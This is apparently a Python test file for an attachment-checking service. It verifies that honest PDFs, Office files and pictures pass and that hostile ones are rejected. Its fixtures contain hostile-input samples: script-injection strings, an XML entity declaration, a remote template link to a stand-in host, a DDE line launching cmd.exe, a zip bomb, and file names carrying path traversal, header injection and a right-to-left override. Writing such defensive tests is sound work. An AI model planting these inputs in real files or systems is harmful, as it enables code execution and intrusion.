"""Attachments: honest files come through, hostile ones end with one sentence that says what to do."""

import io

import pytest
from PIL import Image

from tests.factories import attachments as make
from tumbuh.lib.attachments.api import AttachmentError, AttachmentKind, ErrorCode, Examiner, Limits, clean_name

SMALL = Limits(pixels=1_000_000, unzipped_bytes=5_000_000)
EVIL_XML = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'
EXTERNAL = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://jahat.example/t.dotm" TargetMode="External"/></Relationships>'
)
HONEST = {
    "PDF": ("surat.pdf", make.make_pdf("Surat edaran"), AttachmentKind.PDF),
    "PDF with the name in capitals": ("SURAT.PDF", make.make_pdf("Surat"), AttachmentKind.PDF),
    "no ending": ("surat", make.make_pdf("Surat"), AttachmentKind.PDF),
    "scan": ("pindai.pdf", make.make_scan(), AttachmentKind.PDF),
    "DOCX": ("surat.docx", make.make_docx("Surat"), AttachmentKind.DOCX),
    "XLSX": ("apbdes.xlsx", make.make_xlsx(), AttachmentKind.XLSX),
    "ODT": ("surat.odt", make.make_odt("Surat"), AttachmentKind.ODT),
    "JPEG": ("foto.jpeg", make.make_picture(), AttachmentKind.JPEG),
    "PNG": ("foto.png", make.make_picture("PNG"), AttachmentKind.PNG),
    "a link in a DOCX": (
        "tautan.docx",
        make.add_part(make.make_docx("Surat"), "word/_rels/lain.xml.rels", EXTERNAL.replace(b"attachedTemplate", b"hyperlink")),
        AttachmentKind.DOCX,
    ),
}  # fmt: skip
HOSTILE = {
    "empty": ("a.pdf", b"", ErrorCode.EMPTY_FILE),
    "a program": ("a.pdf", b"MZ\x90\0" + b"0" * 99, ErrorCode.UNKNOWN_KIND),
    "a web page named PDF": ("a.pdf", b"<html><script>alert(1)</script>", ErrorCode.UNKNOWN_KIND),
    "an SVG": ("a.svg", b"<svg onload='alert(1)'/>", ErrorCode.UNKNOWN_KIND),
    "plain text": ("a.txt", b"halo", ErrorCode.UNKNOWN_KIND),
    "a plain archive": ("a.zip", make.make_zip({"a.txt": b"halo"}), ErrorCode.UNKNOWN_KIND),
    "old Word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, ErrorCode.OLD_OFFICE),
    "a workbook named PDF": ("a.pdf", make.make_xlsx(), ErrorCode.WRONG_NAME),
    "a picture with two endings": ("foto.jpg.exe", make.make_picture(), ErrorCode.WRONG_NAME),
    "junk before the PDF": ("a.pdf", b"GIF89a" + make.make_pdf(), ErrorCode.UNKNOWN_KIND),
    "half a PDF": ("a.pdf", make.make_pdf("Surat " * 200)[:600], ErrorCode.BROKEN),
    "a PDF in name only": ("a.pdf", b"%PDF-1.7\nbukan apa-apa\n%%EOF", ErrorCode.BROKEN),
    "a locked PDF": ("a.pdf", make.make_locked_pdf(), ErrorCode.LOCKED),
    "a PDF with restrictions": ("a.pdf", make.make_locked_pdf(""), ErrorCode.LOCKED),
    "a PDF with a script": ("a.pdf", make.make_script_pdf(), ErrorCode.ACTIVE_CONTENT),
    "a PDF that starts a program": ("a.pdf", make.make_launch_pdf(), ErrorCode.ACTIVE_CONTENT),
    "a PDF that carries a file": ("a.pdf", make.make_carrying_pdf(), ErrorCode.ACTIVE_CONTENT),
    "PDF and ZIP in one": ("a.pdf", make.make_pdf() + make.make_zip({"x": b"y"}) + b"%%EOF", ErrorCode.TWO_IN_ONE),
    "a DOCX with a macro": (
        "a.docx", make.add_part(make.make_docx(), "word/vbaProject.bin", b"\xd0\xcf"), ErrorCode.ACTIVE_CONTENT),
    "a DOCX with an OLE object": (
        "a.docx", make.add_part(make.make_docx(), "word/embeddings/oleObject1.bin", b"x"), ErrorCode.ACTIVE_CONTENT),
    "a DOCX with a template from outside": (
        "a.docx", make.add_part(make.make_docx(), "word/_rels/settings.xml.rels", EXTERNAL), ErrorCode.ACTIVE_CONTENT),
    "a DOCX with entities": (
        "a.docx", make.add_part(make.make_docx(), "word/extra.xml", EVIL_XML), ErrorCode.ACTIVE_CONTENT),
    "a DOCX that starts a program": (
        "a.docx",
        make.add_part(make.make_docx(), "word/extra.xml", b"<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"),
        ErrorCode.ACTIVE_CONTENT),
    "an XLSX with Excel 4 macros": (
        "a.xlsx", make.add_part(make.make_xlsx(), "xl/macrosheets/sheet1.xml", b"<x/>"), ErrorCode.ACTIVE_CONTENT),
    "an ODT with Basic": (
        "a.odt", make.add_part(make.make_odt(), "Basic/Standard/Module1.xml", b"<x/>"), ErrorCode.ACTIVE_CONTENT),
    "a locked ODT": (
        "a.odt",
        make.add_part(make.make_odt(), "META-INF/manifest.xml", b"<m><manifest:encryption-data/></m>"),
        ErrorCode.LOCKED),
    "a zip bomb": (
        "a.docx", make.add_part(make.make_docx(), "word/media/a.png", b"\0" * 6_000_000), ErrorCode.UNFOLDS_TOO_LARGE),
    "data before the archive": ("a.docx", b"PK\x03\x04junk" + make.make_docx(), ErrorCode.TWO_IN_ONE),
    "half a DOCX": ("a.docx", make.make_docx()[:4000], ErrorCode.BROKEN),
    "a huge picture": ("a.png", make.make_picture("PNG", (1500, 1500)), ErrorCode.PICTURE_TOO_LARGE),
    "half a picture": ("a.jpg", make.make_picture(size=(300, 300))[:400], ErrorCode.BROKEN),
}  # fmt: skip


@pytest.fixture(scope="module")
def examiner():
    with Examiner(SMALL) as one:
        yield one


@pytest.mark.parametrize("name", HONEST)
def test_honest_files(examiner, tmp_path, name):
    called, content, kind = HONEST[name]
    path = tmp_path / "berkas"
    path.write_bytes(content)
    found = examiner.examine(path, called)
    assert found.kind is kind
    if kind not in (AttachmentKind.JPEG, AttachmentKind.PNG):
        assert found.content == content


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files(examiner, tmp_path, name):
    called, content, code = HOSTILE[name]
    path = tmp_path / "berkas"
    path.write_bytes(content)
    with pytest.raises(AttachmentError) as caught:
        examiner.examine(path, called)
    assert caught.value.code is code, str(caught.value)
    assert "?" not in str(caught.value) and str(caught.value).endswith(".") and "lalu kirim" in str(caught.value)
    assert "?" not in caught.value.english and "resend" in caught.value.english


def test_too_large_by_size_alone(tmp_path):
    path = tmp_path / "berkas"
    path.write_bytes(make.make_pdf("Surat"))
    with Examiner(Limits(file_bytes=100)) as examiner, pytest.raises(AttachmentError) as caught:
        examiner.examine(path, "a.pdf")
    assert caught.value.code is ErrorCode.FILE_TOO_LARGE and examiner.child is None


def test_a_picture_forgets_where_it_was_taken(examiner, tmp_path):
    path = tmp_path / "foto"
    path.write_bytes(make.make_picture(place=True))
    with Image.open(io.BytesIO(path.read_bytes())) as before:
        assert before.getexif().get_ifd(0x8825)
    content = examiner.examine(path, "foto.jpg").content
    with Image.open(io.BytesIO(content)) as after:
        assert after.size == (60, 40) and not after.getexif() and set(after.info) <= {"jfif", "jfif_version",
            "jfif_unit", "jfif_density", "progressive", "progression"}  # fmt: skip
    assert b"Kamera" not in content


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        (AttachmentKind.PDF, make.make_pdf("Rencana kerja\ndesa", "Anggaran stunting")),
        (AttachmentKind.DOCX, make.make_docx("Rencana kerja", "desa", "Anggaran stunting")),
        (AttachmentKind.ODT, make.make_odt("Rencana kerja", "desa", "Anggaran stunting")),
        (AttachmentKind.XLSX, make.make_xlsx([["Rencana kerja", 2026], ["desa"], ["Anggaran stunting"]])),
    ],
)
def test_words_are_read(examiner, tmp_path, kind, content):
    path = tmp_path / "berkas"
    path.write_bytes(content)
    pages, error = examiner.read_pages(path, kind)
    words = " ".join(" ".join(page.text for page in pages).split())
    assert error is None
    assert words.replace(" 2026", "") == "Rencana kerja desa Anggaran stunting"
    assert [page.number for page in pages] == list(range(1, len(pages) + 1))


def test_a_scan_has_no_words(examiner, tmp_path):
    path = tmp_path / "berkas"
    path.write_bytes(make.make_scan())
    assert examiner.read_pages(path, AttachmentKind.PDF) == ([], None)


@pytest.mark.parametrize(
    ("limits", "code"),
    [
        (Limits(memory_bytes=40_000_000), ErrorCode.OUT_OF_MEMORY),
        (Limits(wall_seconds=0.001), ErrorCode.TOO_SLOW),
    ],
)
def test_a_child_that_is_stopped_is_a_sentence_and_is_replaced(tmp_path, limits, code):
    path = tmp_path / "berkas"
    path.write_bytes(make.make_pdf("Surat"))
    with Examiner(limits) as examiner:
        with pytest.raises(AttachmentError) as caught:
            examiner.examine(path, "a.pdf")
        assert caught.value.code in {code, ErrorCode.READER_DIED}
        examiner.limits = Limits()
        examiner.stop()
        assert examiner.examine(path, "a.pdf").kind is AttachmentKind.PDF


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("Perdes No. 3/2026.pdf", "2026.pdf"),
        ("C:\\surat\\RKPDes 2026.PDF", "RKPDes 2026.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("surat\r\nSet-Cookie: a.pdf", "suratSet-Cookie a.pdf"),
        ("\u202efdp.exe.pdf", "fdp.exe.pdf"),
        ("", "berkas.pdf"),
        ("..pdf", "berkas.pdf"),
        ("x" * 400 + ".pdf", "x" * 120 + ".pdf"),
    ],
)
def test_names_are_cleaned(name, clean):
    assert clean_name(name, AttachmentKind.PDF) == clean
